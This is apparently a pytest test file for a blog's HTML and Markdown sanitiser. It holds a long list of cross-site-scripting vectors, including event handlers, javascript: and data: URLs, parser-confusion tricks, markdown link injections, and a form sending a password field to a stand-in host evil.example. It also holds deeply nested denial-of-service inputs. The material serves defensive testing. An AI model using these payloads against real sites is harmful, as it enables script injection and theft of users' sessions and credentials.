"""Nothing anybody pastes runs, frames, submits, tracks the page's names or leads where it does not say."""

import re
import time

import html5lib
import pytest

from blog.core.markdown import Notes, render, render_inline
from blog.core.sanitising import BLOCKS, INLINE, is_tangled, sanitise, sanitise_inline

VECTORS = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<script\x0c>steal()</script\x0c>",
    "<script/src=data:,steal()></script>",
    "</script><script>steal()</script>",
    "<script><!--\nsteal()\n--></script>",
    "<img src=x onerror=steal()>",
    "<img src=x oNeRrOr=steal()//",
    "<img/src='x'/onerror=steal()>",
    '<img src="x" onerror="steal()" srcset="//evil.example 1x">',
    "<img src=`x`onerror=steal()>",
    '<img """><script>steal()</script>">',
    "<img src='javascript:steal()'>",
    "<img src=data:text/html,steal()>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>",
    "<svg><animate onbegin=steal() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:steal()><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#a></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=steal()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href=data:x,steal()>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=steal()></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<textarea><img title='</textarea><img src=x onerror=steal()>'></textarea>",
    "<title><img title='</title><img src=x onerror=steal()>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=steal()>'></xmp>",
    "<template><script>steal()</script></template>",
    "<plaintext><script>steal()</script>",
    "<iframe src=javascript:steal()></iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<iframe src=https://video.example/embed/1 allowfullscreen></iframe>",
    "<frameset onload=steal()><frame src=javascript:steal()></frameset>",
    "<object data=javascript:steal()></object>",
    "<object type=text/x-scriptlet data=//evil.example></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=Steal></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "<meta charset=utf-7>+ADw-script+AD4-steal()",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:steal())'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div style=width:expression(steal())>x</div>",
    "<body onload=steal()>",
    "<html onclick=steal()>",
    "<p onclick=steal()>x</p>",
    "<p OnMouseOver='steal()' onfocus=steal() tabindex=0 autofocus>x</p>",
    "<details open ontoggle=steal()><summary>x</summary></details>",
    "<video><source onerror=steal()></video>",
    "<video src=x onloadstart=steal() poster=javascript:steal()></video>",
    "<audio src onerror=steal()>",
    "<marquee onstart=steal()>x</marquee>",
    "<input autofocus onfocus=steal()>",
    "<input type=checkbox checked>",
    "<select autofocus onfocus=steal()><option>x</select>",
    "<button formaction=javascript:steal()>x</button>",
    "<form action=//evil.example><input name=password></form>",
    "<keygen autofocus onfocus=steal()>",
    "<isindex type=image src=1 onerror=steal()>",
    "<a href=javascript:steal()>x</a>",
    "<a href=' javascript:steal()'>x</a>",
    "<a href='java\tscript:steal()'>x</a>",
    "<a href='java\nscript:steal()'>x</a>",
    "<a href='JaVaScRiPt:steal()'>x</a>",
    "<a href='&#106;avascript:steal()'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;steal()'>x</a>",
    "<a href='javascript&Tab;:steal()'>x</a>",
    "<a href='\x01javascript:steal()'>x</a>",
    "<a href='&#1;javascript:steal()'>x</a>",
    "<a href=vbscript:steal()>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a href=blob:https://a.example/1>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=view-source:https://a.example>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='\n//evil.example'>x</a>",
    "<a href='/&Tab;/evil.example'>x</a>",
    "<a href='https:///evil.example' target=_blank rel=opener ping=//evil.example download>x</a>",
    "<a id=location name=cookie href=#x>x</a>",
    "<p id=documentElement class='messages admin' name=body>x</p>",
    "<img name=getElementById id=forms src=/i.png>",
    "<p is=x-steal slot=a part=b contenteditable hidden accesskey=x>x</p>",
    "<p data-steal=1 data-note=7 x-on:click=steal() v-html=x>x</p>",
    "<!--[if gte IE 4]><script>steal()</script><![endif]-->",
    "<!--><script>steal()</script>-->",
    "<!-- --!><script>steal()</script>",
    "<![CDATA[<script>steal()</script>]]>",
    "<?xml version='1.0'?><script>steal()</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;",
    "<custom-element onclick=steal()>x</custom-element>",
    "<x onclick=steal()>x",
    "<a href=x onclick=steal() <b>x",
    "<<script>steal()//<</script>",
    "<p title='\"><script>steal()</script>'>x</p>",
    "\ud800<script>steal()</script>",
    "[x](javascript:steal())",
    "[x](JAVASCRIPT&colon;steal())",
    "[x](&#x6A;avascript:steal())",
    "[x](<java\tscript:steal()>)",
    "[x]( javascript:steal() )",
    "[x](vbscript:steal())",
    "[x](data:text/html,steal())",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\/evil.example)",
    "[x][r]\n\n[r]: javascript:steal()",
    "[x][r]\n\n[r]: //evil.example",
    "<javascript:steal()>",
    "<data:text/html,steal()>",
    "![x](javascript:steal())",
    "![x](//evil.example/p.png)",
    "![x\" onerror=\"steal()](/i.png)",
    "![x](/i.png 'a\" onerror=\"steal()')",
    "[x](/a 'b\" onclick=\"steal()')",
    "[x](/a\"onclick=\"steal())",
    "[x](https://a.example/\"onclick=steal())",
    "https://a.example/\"onclick=steal()",
    "https://a.example/<script>steal()</script>",
    "http://javascript:steal()@a.example",
    "```\"onclick=steal()\n<script>steal()</script>\n```",
    "`<script>steal()</script>`",
    "    <script>steal()</script>",
    "[^\"><script>steal()</script>]",
    "[^a'onclick=steal()] x\n\n[^a'onclick=steal()]: <script>steal()</script>",
    "x[^1]\n\n[^1]: <img src=x onerror=steal()>",
    "| <script>steal()</script> | [x](javascript:steal()) |\n|--|--|\n| <img src=x onerror=steal()> | <p |",
    "# <script>steal()</script>",
    "- <svg onload=steal()>",
    "> <iframe src=javascript:steal()>",
    "<span class=ref data-note='1&#xFDD0;0'></span> x[^1]",
    "<a href=\"[^1]\" title=\"[^1]\" onclick=\"[^1]\">x</a>[^1]",
]  # fmt: skip
LIVE_ATTRIBUTES = {
    "style", "srcdoc", "name", "target", "ping", "download", "form", "formaction", "action", "srcset", "is", "slot",
    "part", "contenteditable", "hidden", "accesskey", "tabindex", "autofocus", "poster", "data", "background",
}  # fmt: skip


def live_parts(html: str) -> list[str]:
    """Whatever a browser would act on that we never write."""
    found = []
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        tag = element.tag
        if tag == "DOCUMENT_FRAGMENT":
            continue
        if tag not in INLINE | BLOCKS:
            found.append(str(tag))
        for name, value in element.attrib.items():
            address = re.sub(r"[\t\n\r]", "", value).strip().replace("\\", "/").lower()
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", address)
            if str(name).startswith("on") or name in LIVE_ATTRIBUTES or ":" in str(name):
                found.append(f"{tag} {name}")
            if name in ("href", "src", "cite") and (
                address.startswith("//") or (scheme and scheme[0] not in ("http:", "https:", "mailto:", "tel:"))
            ):
                found.append(f"{tag} {name}={value}")
            if name == "id" and not value.startswith("p-fn"):
                found.append(f"{tag} id={value}")
            if name == "class" and value not in ("ref", "unresolved", "notes", "back", "left", "right", "center"):
                found.append(f"{tag} class={value}")
            if name == "data-note" and "ref" not in element.attrib.get("class", ""):
                found.append(f"{tag} data-note={value}")
    return found


@pytest.mark.parametrize("source", VECTORS)
def test_nothing_typed_comes_alive(source: str) -> None:
    once = sanitise(source)
    rendered = render(source)
    shown = [
        once,
        sanitise_inline(source),
        rendered.html,
        *(note.html for note in rendered.notes),
        render(f"- a **{source}** b\n\n{source}", notes=Notes.APPEND, prefix="p-").html,
        render_inline(source),
    ]
    assert [live_parts(html) for html in shown] == [[]] * len(shown)
    assert sanitise(once) == once


def test_sanitise_keeps_what_a_text_is_made_of() -> None:
    html = (
        '<h3 lang="fr">Un <em>port</em></h3><p dir="rtl"><a href="/a" title="b">c</a><br><sub>d</sub></p>'
        '<table><thead><tr><th class="right" colspan="2">e</th></tr></thead></table>'
        '<ol start="3"><li>f</li></ol><details open=""><summary>g</summary>h</details>'
    )
    assert sanitise(html) == html


@pytest.mark.parametrize(
    ("href", "rel"),
    [
        ("https://paper.example/a", ' rel="noopener external"'),
        ("HTTP://paper.example", ' rel="noopener external"'),
        ("https://testserver/2026/01/a/", ""),
        ("http://LOCALHOST:8000/", ""),
        ("/2026/01/a/", ""),
        ("#part", ""),
        ("mailto:desk@paper.example", ""),
        ("https://[bad", None),
    ],
)
def test_rel_says_where_a_link_leads(href: str, rel: str | None) -> None:
    expected = "<a>x</a>" if rel is None else f'<a href="{href}"{rel}>x</a>'
    assert sanitise(f'<a href="{href}" rel="nofollow opener" target="_blank">x</a>') == expected


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("https://courier.example/ferry?a=1&b=2", ' cite="https://courier.example/ferry?a=1&amp;b=2"'),
        ("HTTP://courier.example/", ' cite="HTTP://courier.example/"'),
        ("javascript:steal()", ""),
        ("java&#10;script:steal()", ""),
        ("data:text/html,steal()", ""),
        ("//evil.example/", ""),
    ],
)
@pytest.mark.parametrize("tag", ["blockquote", "q", "del", "ins"])
def test_quotations_cite_pages_of_the_web_only(tag: str, address: str, shown: str) -> None:
    assert (
        sanitise(f'<{tag} cite="{address}">a cite="x" of mine</{tag}>') == f'<{tag}{shown}>a cite="x" of mine</{tag}>'
    )


def test_every_host_being_allowed_does_not_make_every_host_ours(settings: pytest.FixtureRequest) -> None:
    settings.ALLOWED_HOSTS = ["*", ".ours.example"]  # type: ignore[attr-defined]
    assert 'rel="noopener external"' in sanitise('<a href="https://paper.example/">x</a>')
    assert sanitise('<a href="https://www.ours.example/">x</a>') == '<a href="https://www.ours.example/">x</a>'


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ('<img src="/i.png">', '<img src="/i.png" alt="" loading="lazy">'),
        ('<img src="/i.png" alt="A pier" loading="eager">', '<img src="/i.png" alt="A pier" loading="lazy">'),
        ('<img alt="A pier">', ""),
        ('<img src="javascript:x" alt="A pier">', ""),
    ],
)
def test_images_load_late_and_have_a_description(typed: str, shown: str) -> None:
    assert sanitise(typed) == shown


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 20_000,
        "<b>" * 10_000 + "<p>" * 10_000,
        "".join(f'<b lang="l{n}">' for n in range(5_000)) + "<p>" * 5_000,
        "<table><tr><td>" * 10_000,
        "<div><table><td></div></table>" * 5_000,
        "<svg>" * 20_000,
        "<a href=x>" * 20_000,
        "<select>" * 20_000,
    ],
    ids=["deep", "formatting", "formatting-with-attributes", "tables", "scopes", "foreign", "links", "selects"],
)
def test_what_is_nested_beyond_reason_does_not_stop_the_server(html: str) -> None:
    started = time.process_time()
    assert sanitise(f"before {html} after").split() == ["before", "after"]
    assert "before" in render(f"before {html} after").text
    assert time.process_time() - started < 5


@pytest.mark.parametrize(
    "html",
    [
        "<ul>" + "<li>one <b>two</b><br>" * 500 + "</ul>",
        "<table>" + "<tr><td>one<td>two" * 500 + "</table>",
        "<dl>" + "<dt>one<dd>two" * 500 + "</dl>",
        "<p>one<p>two" * 500,
        "<div>" * 60 + "</div>" * 60,
    ],
    ids=["list", "table", "definitions", "paragraphs", "deep"],
)
def test_hand_written_html_with_end_tags_left_out_is_not_tangled(html: str) -> None:
    assert not is_tangled(html)
